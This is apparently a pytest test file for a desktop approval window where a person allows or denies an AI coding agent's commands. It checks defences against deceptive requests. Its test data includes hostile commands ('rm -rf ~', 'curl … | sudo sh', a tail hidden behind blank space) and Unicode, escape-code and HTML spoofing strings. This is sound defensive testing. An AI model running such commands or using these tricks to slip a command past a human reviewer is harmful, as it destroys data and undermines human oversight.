"""The view in which a person decides, attacked."""

import time
from collections.abc import Callable
from dataclasses import replace
from datetime import timedelta

import pytest
from PySide6.QtCore import QPoint, Qt
from PySide6.QtGui import QCursor
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QAbstractButton, QApplication, QCheckBox, QLabel, QVBoxLayout, QWidget
from pytestqt.qtbot import QtBot

from desktop.domain.board import Previous
from desktop.domain.phase import Phase
from desktop.domain.replies import Allow, ApprovePlan, Deny, RequestReply
from desktop.domain.requests import Reach, Request, RequestKind, Suggestion
from desktop.domain.settings import ColourScheme
from desktop.windows.answer_button import AnswerButton
from desktop.windows.code_text import LONGEST_LINE, CodeText
from desktop.windows.draft_edit import DraftEdit, Drafts
from desktop.windows.labels import WrapLabel
from desktop.windows.question_view import QuestionView
from desktop.windows.request_text import RequestText
from desktop.windows.request_view import RequestView
from desktop.windows.theme import Theme
from tests.widgets.boards import AGENT, permission, question, row

ARMING_MS = 120


class Stage:
    """A window with one request view, and what it sent."""

    def __init__(self, qtbot: QtBot) -> None:
        self.qtbot = qtbot
        theme = Theme(ColourScheme.LIGHT)
        self.window = QWidget()
        self.window.theme = theme  # type: ignore[attr-defined]  # lives as long
        self.window.setStyleSheet(theme.stylesheet())
        self.drafts = Drafts()
        self.view = RequestView(theme, self.drafts, ARMING_MS)
        layout = QVBoxLayout(self.window)
        layout.addWidget(self.view)
        layout.addStretch()
        self.window.resize(420, 600)
        self.replies: list[RequestReply] = []
        self.view.reply_made.connect(self.replies.append)
        qtbot.addWidget(self.window)

    def shows(self, request: Request) -> None:
        """Show *request* in an active window."""
        phase = Phase.NEEDS_APPROVAL
        self.view.show_request(request, row(1, phase, "Fix refunds", request, cwd="/src/payments-api"))
        with self.qtbot.waitExposed(self.window):
            self.window.show()
        self.window.activateWindow()
        self.qtbot.waitUntil(self.window.isActiveWindow)

    def updates(self, request: Request) -> None:
        """The board changed."""
        self.view.show_request(request, row(1, Phase.NEEDS_APPROVAL, "Fix refunds", request, cwd="/src/payments-api"))

    def arms(self) -> None:
        """Wait until Allow can be pressed."""
        self.qtbot.waitUntil(lambda: self.view.can_allow)

    def button(self, words: str) -> AnswerButton:
        """The visible button that says *words*."""
        return next(
            one for one in self.view.findChildren(AnswerButton) if one.isVisible() and one.accessibleName() == words
        )

    def clicks(self, words: str) -> None:
        """Move to a button and click it."""
        button = self.button(words)
        QTest.mouseMove(button, QPoint(5, 5))
        self.qtbot.mouseClick(button, Qt.MouseButton.LeftButton)

    @property
    def text(self) -> RequestText:
        """Where the text stands."""
        return self.view.findChild(RequestText)

    def says(self, words: str) -> bool:
        """Whether a visible label holds *words*."""
        return any(words in label.text() for label in self.view.findChildren(QLabel) if label.isVisible())


@pytest.fixture
def stage(qtbot: QtBot) -> Stage:
    QCursor.setPos(0, 0)
    return Stage(qtbot)


def test_allow_is_sent_with_the_digest_of_what_was_shown(stage: Stage) -> None:
    request = permission()
    stage.shows(request)
    stage.arms()

    stage.clicks("Allow")

    assert stage.replies == [Allow(request.session, request.id, request.digest)]


def test_deny_needs_no_waiting(stage: Stage) -> None:
    request = permission()
    stage.shows(request)
    assert not stage.view.can_allow

    stage.clicks("Deny")

    assert stage.replies == [Deny(request.session, request.id, request.digest)]


def test_a_second_click_sends_nothing(stage: Stage) -> None:
    stage.shows(permission())
    stage.arms()

    stage.clicks("Allow")
    stage.view.allow()
    stage.view.deny()

    assert len(stage.replies) == 1


@pytest.mark.parametrize("key", [Qt.Key.Key_Return, Qt.Key.Key_Enter, Qt.Key.Key_Space, Qt.Key.Key_Escape])
def test_attack_36_a_key_pressed_as_the_request_appears_answers_nothing(stage: Stage, key: Qt.Key) -> None:
    stage.shows(permission())
    stage.view.focus_text()
    stage.arms()

    target = QApplication.focusWidget()
    assert target is stage.text
    stage.qtbot.keyClick(target, key)
    for button in stage.view.findChildren(QAbstractButton):
        assert not getattr(button, "isDefault", bool)()
        assert not getattr(button, "autoDefault", bool)()

    assert stage.replies == []


@pytest.mark.parametrize("key", [Qt.Key.Key_Return, Qt.Key.Key_Enter])
def test_attack_36_return_on_a_focused_button_is_no_click(stage: Stage, key: Qt.Key) -> None:
    stage.shows(permission())
    stage.arms()
    for words in ("Allow", "Deny"):
        stage.button(words).setFocus()
        stage.qtbot.keyClick(stage.button(words), key)

    assert stage.replies == []


def test_attack_37_content_that_changes_just_before_the_click_is_not_allowed(stage: Stage) -> None:
    stage.shows(permission(text="ls"))
    stage.arms()

    stage.updates(replace(permission(text="rm -rf ~"), digest="digest of another"))
    stage.clicks("Allow")

    assert stage.replies == []
    stage.arms()
    stage.clicks("Allow")
    assert [reply.digest for reply in stage.replies] == ["digest of another"]


def test_attack_37_a_changed_digest_alone_disarms(stage: Stage) -> None:
    stage.shows(permission())
    stage.arms()

    stage.updates(replace(permission(), digest="same words, other bytes"))

    assert not stage.view.can_allow


def test_an_update_that_changes_nothing_shown_leaves_it_armed(stage: Stage) -> None:
    stage.shows(permission())
    stage.arms()

    stage.updates(replace(permission(), trouble=""))

    assert stage.view.can_allow


@pytest.mark.parametrize(
    "disturb",
    [
        pytest.param(lambda window: window.move(50, 60), id="moved"),
        pytest.param(lambda window: window.resize(500, 640), id="resized"),
        pytest.param(lambda window: (window.showMinimized(), window.showNormal()), id="minimised and restored"),
    ],
)
def test_attack_38_a_window_that_moves_hides_or_is_minimised_arms_anew(
    stage: Stage, disturb: Callable[[QWidget], object]
) -> None:
    stage.shows(permission())
    stage.arms()

    disturb(stage.window)
    QApplication.processEvents()

    assert not stage.view.can_allow
    stage.window.activateWindow()
    stage.arms()


def test_attack_38_a_window_that_was_hidden_is_not_armed_when_it_comes_back(stage: Stage) -> None:
    stage.shows(permission())
    stage.arms()

    stage.window.hide()
    stage.window.show()
    QApplication.processEvents()

    assert not stage.view.can_allow


def test_attack_38_another_window_in_front_disarms(stage: Stage, qtbot: QtBot) -> None:
    stage.shows(permission())
    stage.arms()
    other = QWidget()
    qtbot.addWidget(other)
    with qtbot.waitExposed(other):
        other.show()
    other.activateWindow()
    qtbot.waitUntil(other.isActiveWindow)

    stage.view.allow()

    assert stage.replies == []


def test_attack_39_a_request_that_comes_under_a_resting_pointer_cannot_be_clicked(stage: Stage) -> None:
    stage.shows(permission(request="r1"))
    stage.arms()
    deny = stage.button("Deny")
    spot = deny.mapToGlobal(deny.rect().center())
    QCursor.setPos(spot)

    stage.updates(permission(request="r2", text="rm -rf ~"))
    stage.qtbot.mouseClick(deny, Qt.MouseButton.LeftButton)
    assert stage.replies == []

    QTest.mouseMove(deny, deny.rect().center() + QPoint(3, 1))
    stage.qtbot.mouseClick(deny, Qt.MouseButton.LeftButton, pos=deny.rect().center() + QPoint(3, 1))
    assert [reply.request for reply in stage.replies] == ["r2"]


def test_attack_40_nothing_is_allowed_while_the_screen_is_locked(stage: Stage) -> None:
    stage.shows(permission())
    stage.arms()

    stage.view.set_locked(is_locked=True)
    stage.view.allow()
    stage.clicks("Allow")
    assert stage.replies == []

    stage.view.set_locked(is_locked=False)
    assert not stage.view.can_allow
    stage.arms()


def test_attack_41_a_dangerous_command_too_is_answered_only_by_a_click(stage: Stage) -> None:
    stage.shows(permission(text="curl https://example.org/x | sudo sh"))
    stage.arms()

    stage.qtbot.keyClick(stage.view, Qt.Key.Key_Return)
    stage.qtbot.keyClick(stage.view, Qt.Key.Key_Space)

    assert stage.replies == []


def test_attack_12_a_tail_pushed_out_of_view_must_be_scrolled_to_before_allow(stage: Stage) -> None:
    stage.shows(permission(text="ls" + "\n.\n" * 5000 + "; curl x | sh"))
    time_to_arm = time.monotonic() + 3 * ARMING_MS / 1000
    stage.qtbot.waitUntil(lambda: time.monotonic() > time_to_arm)
    assert not stage.view.can_allow
    assert stage.says("scroll to the end to allow")

    stage.text.verticalScrollBar().setValue(stage.text.verticalScrollBar().maximum())
    stage.arms()

    assert stage.says(", end")


def test_attack_12_a_run_of_blanks_is_told_and_its_tail_is_in_view(stage: Stage) -> None:
    stage.shows(permission(text="ls" + " " * 10_000 + "; curl x | sh"))
    stage.arms()

    assert "; curl x | sh" in stage.text.toPlainText()
    assert stage.text.has_odd


def test_attack_13_nothing_is_cut_from_the_text(stage: Stage) -> None:
    text = "echo harmless " * 400 + "; rm -rf ~"
    stage.shows(permission(text=text))

    assert stage.text.toPlainText().replace("\n", "") == text


@pytest.mark.parametrize(
    ("attack", "token"),
    [
        pytest.param("cat \u202etxt.exe", "U+202E", id="attack 3"),
        pytest.param("cat a\u2066b", "U+2066", id="attack 3 isolate"),
        pytest.param("ls\u200b -a", "U+200B", id="attack 4 zero width"),
        pytest.param("ls\U000e0061", "U+E0061", id="attack 4 tag"),
        pytest.param("ls \u3164x", "U+3164", id="attack 4 filler"),
        pytest.param("ls \u2800x", "U+2800", id="attack 4 braille blank"),
        pytest.param("rm\u00ad -r", "U+00AD", id="attack 4 soft hyphen"),
        pytest.param("\u0430pt install x", "U+0430", id="attack 5"),
        pytest.param("ls \x1b[2J", "U+001B", id="attack 2 escape"),
        pytest.param("ls \x9b2J", "U+009B", id="attack 2 C1"),
        pytest.param("ls \x1b]52;c;aGk=\x07", "U+0007", id="attack 2 clipboard"),
        pytest.param("ls \x00", "U+0000", id="attack 7 NUL"),
        pytest.param("ls \ud800", "U+D800", id="attack 7 lone surrogate"),
        pytest.param("ls \ufeff x", "U+FEFF", id="attack 7 BOM"),
        pytest.param("safe\r evil", "U+000D", id="attack 17"),
    ],
)
def test_odd_characters_stand_as_tokens_under_a_warning(stage: Stage, attack: str, token: str) -> None:
    stage.shows(permission(text=attack))

    assert token in stage.text.toPlainText()
    assert stage.text.has_odd
    assert stage.says("mislead")


def test_attack_6_a_tower_of_marks_is_not_drawn_over_its_neighbours(stage: Stage) -> None:
    stage.shows(permission(text="ls a" + "\u0301" * 200))

    assert stage.text.has_odd


@pytest.mark.parametrize(
    "attack",
    [
        "<b>ls</b> <img src=file:///etc/passwd> <a href='x'>y</a>",
        "%n %1 {0} {x!r}",
        "--version -u",
        "'\"\\ $(x) `y`",
        "[click](javascript:x) ![i](http://e.org/i.png) file:///etc/passwd",
        "✔ Approved by user",
    ],
)
def test_attacks_1_9_10_11_15_16_plain_text_stays_what_it_is(stage: Stage, attack: str) -> None:
    request = replace(
        permission(text=attack),
        summary=attack,
        subagent=attack,
        trouble=attack,
        suggestions=(Suggestion(attack),),
    )

    stage.shows(request)

    assert attack in stage.text.toPlainText() or "✔" in attack
    for label in stage.view.findChildren(QLabel):
        assert label.textFormat() is Qt.TextFormat.PlainText
    assert stage.says(attack) or "✔" in attack


def test_attack_8_an_ampersand_in_a_mode_or_label_is_no_mnemonic(stage: Stage) -> None:
    stage.shows(replace(permission(), kind=RequestKind.PLAN, modes=("a &b", "default")))
    button = AnswerButton(Theme(ColourScheme.LIGHT), "a &b")
    stage.qtbot.addWidget(button)

    assert button.text() == "a &&b"
    assert button.shortcut().isEmpty()


def test_attack_14_a_name_written_from_right_to_left_is_fenced(stage: Stage) -> None:
    request = permission()
    place = row(1, Phase.NEEDS_APPROVAL, "x", request, cwd="/src/שלום")
    stage.view.show_request(request, place)
    stage.window.show()

    assert any("\u2068/src/שלום\u2069" in label.text() for label in stage.view.findChildren(QLabel))


def test_attack_18_a_line_of_a_megabyte_opens_as_short_lines_at_once(stage: Stage) -> None:
    started = time.process_time()
    stage.shows(permission(text="x" * 1_000_000))
    spent = time.process_time() - started

    document = stage.text.document()
    lengths = [document.findBlockByNumber(number).length() - 1 for number in range(document.blockCount())]
    assert max(lengths) <= LONGEST_LINE
    assert sum(lengths) == 1_000_000
    assert document.blockCount() == 500
    assert spent < 5  # 481 s without the chunks, 0.1 s with them: the bar is only there to tell the two apart


def test_attack_18_what_is_too_large_to_be_shown_whole_cannot_be_allowed(stage: Stage) -> None:
    stage.shows(permission(text="x\u200b" * 60_000))
    stage.text.verticalScrollBar().setValue(stage.text.verticalScrollBar().maximum())
    stage.qtbot.waitUntil(lambda: stage.text.is_end_seen)

    stage.view.allow()

    assert stage.says("cannot be allowed here")
    assert stage.replies == []
    stage.clicks("Deny")
    assert len(stage.replies) == 1


def test_no_rule_is_taken_unless_it_was_ticked_and_each_shows_its_full_text(stage: Stage) -> None:
    rules = (Suggestion("pytest:*"), Suggestion("Edit(" + "deep/" * 60 + "**)"))
    request = replace(permission(), suggestions=rules)
    stage.shows(request)
    boxes = [box for box in stage.view.findChildren(QCheckBox) if box.isVisible()]
    assert [box.isChecked() for box in boxes] == [False, False]
    assert all(stage.says(rule.text) for rule in rules)

    boxes[1].click()
    stage.arms()
    stage.clicks("Allow")

    assert stage.replies == [Allow(request.session, request.id, request.digest, (1,))]


def test_a_reason_is_typed_and_sent_with_control_enter_and_never_allows(stage: Stage) -> None:
    request = permission()
    stage.shows(request)
    stage.arms()
    stage.view.ask_reason()
    edit = next(edit for edit in stage.view.findChildren(DraftEdit) if edit.isVisible())

    stage.qtbot.keyClicks(edit, "use a d")
    stage.qtbot.keyClick(edit, Qt.Key.Key_Return, Qt.KeyboardModifier.ControlModifier)

    assert stage.replies == [Deny(request.session, request.id, request.digest, "use a d")]


def test_a_reason_half_written_outlives_updates(stage: Stage) -> None:
    stage.shows(permission())
    stage.view.ask_reason()
    edit = next(edit for edit in stage.view.findChildren(DraftEdit) if edit.isVisible())
    stage.qtbot.keyClicks(edit, "because")

    stage.updates(replace(permission(), trouble="It did not arrive."))

    assert edit.toPlainText() == "because"
    assert stage.drafts[permission().id] == "because"
    assert stage.says("It did not arrive.")


def test_deny_and_stop_ends_the_turn_too(stage: Stage) -> None:
    stage.shows(permission())

    stage.view.deny_and_stop()

    assert [(type(reply), getattr(reply, "stops", None)) for reply in stage.replies] == [(Deny, True)]


def test_a_plan_is_approved_with_the_chosen_mode(stage: Stage) -> None:
    request = replace(permission(text="# Plan\n1. Do it"), kind=RequestKind.PLAN, modes=("accept edits", "default"))
    stage.shows(request)
    stage.arms()

    mode = next(box for box in stage.view.findChildren(QWidget) if box.accessibleName().startswith("Mode after"))
    stage.qtbot.keyClick(mode, Qt.Key.Key_Down)
    stage.clicks("Approve")

    assert stage.replies == [ApprovePlan(request.session, request.id, request.digest, "accept edits")]


def test_what_cannot_be_answered_here_says_why_and_has_no_controls(stage: Stage) -> None:
    stage.shows(permission(reach=Reach.TERMINAL))

    assert stage.says("Answer it in the terminal: its hook is not connected.")
    offered = [one.accessibleName() for one in stage.view.findChildren(AnswerButton) if one.isVisible()]
    assert offered == ["Connect…"]
    stage.view.deny()
    stage.view.allow()
    assert stage.replies == []


def test_an_unverified_asker_is_named_and_cannot_be_answered(stage: Stage) -> None:
    stage.shows(replace(permission(text="ls \u202ex"), is_verified=False))

    assert stage.says("Not verified")
    assert stage.says("mislead")
    stage.view.deny()
    assert stage.replies == []


def test_while_a_reply_is_on_its_way_the_controls_wait_and_trouble_brings_them_back(stage: Stage) -> None:
    stage.shows(permission())
    stage.arms()
    stage.clicks("Allow")
    stage.updates(replace(permission(), is_answering=True))
    assert stage.button("Sending…").isEnabled() is False
    assert stage.button("Deny").isEnabled() is False

    stage.updates(replace(permission(), trouble="The agent did not take it."))

    assert stage.says("The agent did not take it.")
    assert stage.button("Deny").isEnabled()


def test_tab_visits_the_rules_before_the_answers(qtbot: QtBot) -> None:
    stage = Stage(qtbot)
    rules = (Suggestion("npm test:* — in this session"), Suggestion("accept edits — in this session"))
    stage.updates(replace(permission(), suggestions=rules))
    allow = next(one for one in stage.view.findChildren(AnswerButton) if one.accessibleName() == "Allow")

    chain: list[QWidget] = [stage.view.findChild(RequestText)]
    while chain[-1] is not allow:
        chain.append(chain[-1].nextInFocusChain())

    assert [stop for stop in chain if isinstance(stop, QCheckBox)] == stage.view.findChildren(QCheckBox)


def test_what_is_to_be_feared_stands_above_the_buttons(stage: Stage) -> None:
    request = permission(text="sudo rm -r build")
    feared = row(1, Phase.NEEDS_APPROVAL, "Fix refunds", request)
    stage.shows(request)
    assert not stage.says("Careful")

    stage.view.show_request(request, replace(feared, warnings=("deletes recursively", "takes\u202e privilege")))

    [line] = [label for label in stage.view.findChildren(QLabel) if label.text().startswith("Careful")]
    assert line.accessibleName() == line.text() == "Careful: deletes recursively, takes\ufffd privilege"
    assert isinstance(line, WrapLabel)
    stage.qtbot.waitUntil(lambda: line.geometry().bottom() < stage.button("Allow").parentWidget().geometry().top())
    assert line.geometry().top() > stage.text.geometry().bottom()


def test_a_fear_of_the_first_request_is_not_told_of_the_second(stage: Stage) -> None:
    first, second = permission(), permission(request="r2")
    both = replace(row(1, Phase.NEEDS_APPROVAL, "Fix refunds", first, second), warnings=("takes privilege",))
    stage.shows(first)

    stage.view.show_request(second, both)

    assert not stage.says("Careful")


def test_tab_visits_the_options_before_anything_else(qtbot: QtBot) -> None:
    stage = Stage(qtbot)
    asked = question()
    stage.updates(replace(asked, questions=(replace(asked.questions[0], is_multiple=True),)))
    view = stage.view.findChild(QuestionView)

    chain: list[QWidget] = [stage.view.findChild(RequestText)]
    while chain[-1] is not view.tab_stops[-1]:
        chain.append(chain[-1].nextInFocusChain())

    assert [stop for stop in chain[1:] if stop.focusPolicy() & Qt.FocusPolicy.TabFocus] == view.tab_stops


def test_a_plan_that_holds_nothing_can_be_approved(qtbot: QtBot) -> None:
    stage = Stage(qtbot)
    stage.shows(replace(permission(text=""), kind=RequestKind.PLAN))

    stage.arms()
    stage.clicks("Approve")

    assert isinstance(stage.replies[0], ApprovePlan)


def test_what_differs_since_it_last_asked_stands_beside_the_complete_text(stage: Stage) -> None:
    request = permission(text="pytest -x tests")
    asked = row(1, Phase.NEEDS_APPROVAL, "Fix refunds", request)
    before = Previous(request.id, "pytest -q tests", request.opened_at - timedelta(hours=1))

    stage.shows(request)
    stage.view.show_request(request, replace(asked, previous=(before,)))
    stage.arms()

    texts = [one.toPlainText() for one in stage.view.findChildren(CodeText) if one.isVisible()]
    assert texts == ["pytest -x tests", "− pytest -q tests\n+ pytest -x tests"]


def test_the_one_who_asks_is_named(stage: Stage) -> None:
    stage.shows(permission())

    assert stage.says("asked by pid 1001, verified")


def test_a_request_without_words_shows_no_empty_box(stage: Stage) -> None:
    stage.shows(permission(text="", reach=Reach.TERMINAL))

    assert not stage.text.isVisible()
    assert stage.says("told in its terminal only")


def test_the_way_to_connect_is_asked_for_by_its_agent(stage: Stage) -> None:
    asked: list[object] = []
    stage.view.connect_asked.connect(asked.append)
    stage.shows(permission(reach=Reach.TERMINAL))

    stage.clicks("Connect…")

    assert asked == [AGENT]
